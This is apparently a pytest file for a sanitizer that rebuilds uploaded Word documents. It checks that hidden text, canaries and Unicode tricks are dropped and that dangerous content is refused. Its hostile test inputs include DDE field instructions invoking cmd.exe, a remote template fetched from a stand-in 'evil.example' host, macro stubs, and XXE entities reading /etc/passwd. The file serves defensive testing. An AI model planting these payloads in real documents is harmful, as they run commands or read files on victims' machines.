"""Word: what is seen comes over, what is not is nowhere; what may run, fetch or hide is refused."""

from io import BytesIO

import pytest

import hostile_words as words
from commonweal.documents.blocks import Heading, ListBlock, PageBreak, Picture, TableBlock, plain
from commonweal.documents.safe_copy.make import copy_of
from commonweal.errors import UploadRefused
from hostile_books import unpacked
from hostile_pictures import png
from hostile_words import paragraph, run, word

WP = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
WPS = "http://schemas.microsoft.com/office/word/2010/wordprocessingShape"
WHITE = '<w:color w:val="FFFFFF"/>'
PIC = "http://schemas.openxmlformats.org/drawingml/2006/picture"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"


def copied(body, changes=None):
    return copy_of("paper.docx", word(body, changes))


def said(copy):
    return [plain(b.runs) for b in copy.blocks if hasattr(b, "runs")]


def test_every_canary_is_in_the_upload_and_in_nothing_of_the_copy():
    upload = words.with_secrets()
    held = unpacked(upload).decode("utf-8", "replace")
    assert [name for name, canary in words.CANARIES.items() if canary not in held] == []
    copy = copy_of("paper.docx", upload)
    kept = copy.to_json()
    assert [name for name, canary in words.CANARIES.items() if canary in kept] == []
    assert [phrase for phrase in words.SEEN if phrase not in kept] == []


def test_it_says_what_was_left_out():
    said_so = " ".join(copy_of("paper.docx", words.with_secrets()).warnings)
    for kind in ("Tracked changes", "Hidden text", "blacked out", "too small", "Hidden rows", "Links"):
        assert kind in said_so


def test_a_heading_at_the_top_is_the_title():
    copy = copied(paragraph(run("The plan"), '<w:pStyle w:val="Title"/>') + paragraph(run("Words")))
    assert copy.title == "The plan" and copy.blocks[0] == Heading("The plan", 1)


def test_white_words_on_a_dark_ground_are_seen():
    dark = '<w:shd w:val="clear" w:fill="1D3557"/>'
    cell = f"<w:tc><w:tcPr>{dark}</w:tcPr>{paragraph(run('Head', WHITE))}</w:tc>"
    table = copied(f"<w:tbl><w:tr>{cell}</w:tr></w:tbl>").blocks[0]
    assert isinstance(table, TableBlock) and plain(table.rows[0].cells[0].runs) == "Head"


def test_dark_words_on_a_dark_ground_are_not():
    dark = '<w:shd w:val="clear" w:fill="000000"/><w:color w:val="000000"/>'
    copy = copied(paragraph(run("seen ") + run("blacked out", dark)))
    assert said(copy) == ["seen "] and "blacked out" in " ".join(copy.warnings)


def test_numbers_are_those_that_word_prints():
    def number(parts):
        level = "".join(
            f'<w:lvl w:ilvl="{n}"><w:start w:val="1"/><w:numFmt w:val="{kind}"/><w:lvlText w:val="{text}"/></w:lvl>'
            for n, (kind, text) in enumerate((("decimal", "%1."), ("decimal", "%1.%2"), ("lowerRoman", "(%3)")))
        )
        parts["word/numbering.xml"] = (
            f'<w:numbering {words.W}><w:abstractNum w:abstractNumId="1">{level}</w:abstractNum>'
            '<w:num w:numId="7"><w:abstractNumId w:val="1"/></w:num></w:numbering>'
        ).encode()

    def point(text, depth):
        return paragraph(run(text), f'<w:numPr><w:ilvl w:val="{depth}"/><w:numId w:val="7"/></w:numPr>')

    body = (
        point("a", 0)
        + point("b", 1)
        + point("c", 1)
        + point("d", 2)
        + paragraph(run("between"))
        + point("e", 0)
        + point("f", 1)
    )
    lists = [b for b in copied(body, number).blocks if isinstance(b, ListBlock)]
    assert [[item.label for item in block.items] for block in lists] == [["1.", "1.1", "1.2", "(i)"], ["2.", "2.1"]]


def test_a_table_keeps_its_head_and_joined_cells():
    cells = "".join(f"<w:tc>{paragraph(run(head))}</w:tc>" for head in ("Ward", "Count"))
    head = f"<w:tr><w:trPr><w:tblHeader/></w:trPr>{cells}</w:tr>"
    wide = f'<w:tr><w:tc><w:tcPr><w:gridSpan w:val="2"/></w:tcPr>{paragraph(run("all"))}</w:tc></w:tr>'
    table = copied(f"<w:tbl>{head}{wide}</w:tbl>").blocks[0]
    assert table.heads == ("Ward", "Count") and table.rows[0].cells[0].across == 2


def test_footnotes_stand_at_the_end():
    def notes(parts):
        note = f'<w:footnote w:id="2">{paragraph(run("the source"))}</w:footnote>'
        parts["word/footnotes.xml"] = f"<w:footnotes {words.W}>{note}</w:footnotes>".encode()

    copy = copied(paragraph(run("claim") + '<w:r><w:footnoteReference w:id="2"/></w:r>'), notes)
    assert said(copy) == ["claim [1]"]
    assert copy.blocks[-1].items[0].label == "[1]" and plain(copy.blocks[-1].items[0].runs) == "the source"


def test_a_page_break_is_kept():
    assert PageBreak() in copied(paragraph(run("one") + '<w:r><w:br w:type="page"/></w:r>')).blocks


def drawing(inner="", floating=False, wrap="wrapNone"):
    graphic = inner or (
        f'<a:graphic xmlns:a="{A}"><a:graphicData><pic:pic xmlns:pic="{PIC}">'
        f'<pic:blipFill><a:blip r:embed="rIdX" xmlns:r="{R}"/><a:srcRect l="50000"/></pic:blipFill>'
        '<pic:spPr><a:xfrm><a:ext cx="3600000" cy="3600000"/></a:xfrm></pic:spPr></pic:pic></a:graphicData></a:graphic>'
    )
    size = '<wp:extent cx="3600000" cy="3600000"/><wp:docPr id="1" name="n" descr="d"/>'
    frame = (
        f'<wp:anchor xmlns:wp="{WP}" behindDoc="0">{size}<wp:{wrap}/>{graphic}</wp:anchor>'
        if floating
        else f'<wp:inline xmlns:wp="{WP}">{size}{graphic}</wp:inline>'
    )
    return paragraph(f"<w:r><w:drawing>{frame}</w:drawing></w:r>")


def add_picture(parts):
    parts["word/media/a.png"] = png(100, 10)
    words.relate(parts, IMAGE, "media/a.png")


def test_a_picture_is_redrawn_without_what_was_cut_off():
    from PIL import Image

    picture = copied(paragraph(run("words")) + drawing(), add_picture).blocks[1]
    assert isinstance(picture, Picture) and picture.width_cm == 10
    assert Image.open(BytesIO(picture.content)).size == (50, 10)
    assert picture.alt.startswith("Picture without a description")


def test_a_picture_over_words_is_refused_but_not_beside_them():
    with pytest.raises(UploadRefused, match="in front of the words"):
        copied(paragraph(run("words")) + drawing(floating=True), add_picture)
    assert copied(paragraph(run("words")) + drawing(floating=True, wrap="wrapSquare"), add_picture).blocks


def test_a_black_shape_over_words_is_refused():
    shape = (
        f'<a:graphic xmlns:a="{A}"><a:graphicData><wps:wsp xmlns:wps="{WPS}"><wps:spPr><a:solidFill>'
        '<a:srgbClr val="000000"/></a:solidFill></wps:spPr></wps:wsp></a:graphicData></a:graphic>'
    )
    with pytest.raises(UploadRefused, match="in front of the words"):
        copied(paragraph(run("words")) + drawing(shape, floating=True))


@pytest.mark.parametrize("instruction", ["DDEAUTO c:\\\\cmd.exe", "DDE excel a b", '"DDE" x'])
def test_dde_is_refused(instruction):
    told = f"<w:r><w:instrText>{instruction}</w:instrText></w:r>"
    field = f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{told}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    with pytest.raises(UploadRefused, match="DDE"):
        copied(paragraph(run("words") + field))
    with pytest.raises(UploadRefused, match="DDE"):
        copied(f"<w:p><w:fldSimple w:instr='{instruction}'>{run('x')}</w:fldSimple></w:p>")


def test_dde_in_pieces_is_refused():
    pieces = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in ("D", "DEAU", "TO c"))
    field = f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{pieces}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    with pytest.raises(UploadRefused, match="DDE"):
        copied(paragraph(run("words") + field))


def with_macros(parts):
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0macro"


def macro_enabled(parts):
    kind = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        kind, b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )


def with_object(parts):
    words.relate(
        parts, "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject", "embeddings/a.bin"
    )


def with_web_page(parts):
    words.relate(parts, "http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk", "a.html")


def with_remote_template(parts):
    parts["word/_rels/settings.xml.rels"] = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )


@pytest.mark.parametrize(
    ("changes", "reason"),
    [(with_macros, "macros"), (macro_enabled, "macros"), (with_object, "embedded"), (with_web_page, "embedded"),
     (with_remote_template, "template")],
)  # fmt: skip
def test_what_may_run_or_fetch_is_refused_with_a_way_on(changes, reason):
    with pytest.raises(UploadRefused, match=reason) as refused:
        copied(paragraph(run("words")), changes)
    assert refused.value.next_step.endswith(".")


def test_a_template_on_the_authors_own_machine_does_no_harm():
    def local(parts):
        with_remote_template(parts)
        parts["word/_rels/settings.xml.rels"] = parts["word/_rels/settings.xml.rels"].replace(
            b"https://evil.example/t.dotm", b"file:///C:/Normal.dotm"
        )

    assert said(copied(paragraph(run("words")), local)) == ["words"]


@pytest.mark.parametrize(
    "markup", ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '<!DOCTYPE a [<!ENTITY x "ha">]>']
)
def test_entities_are_refused_in_any_part_and_encoding(markup):
    for encoding in ("utf-8", "utf-16"):

        def declare(parts, encoding=encoding):
            parts["docProps/odd.xml"] = f'<?xml version="1.0" encoding="{encoding}"?>{markup}<a>&x;</a>'.encode(
                encoding
            )

        with pytest.raises(UploadRefused, match="entities"):
            copied(paragraph(run("words")), declare)


def test_unseen_letters_are_left_out():
    assert said(copied(paragraph(run("pay\u202eroll\u200b \U000e0041x")))) == ["payroll x"]


def test_our_own_word_file_can_be_taken_in():
    from commonweal.documents.blocks import Paragraph
    from commonweal.documents.plain import PlainDocument

    ours = PlainDocument("Minutes", (Heading("Apologies", 2), Paragraph.of("None."))).docx()
    copy = copy_of("minutes.docx", ours)
    assert copy.title == "Minutes" and said(copy) == ["None."]
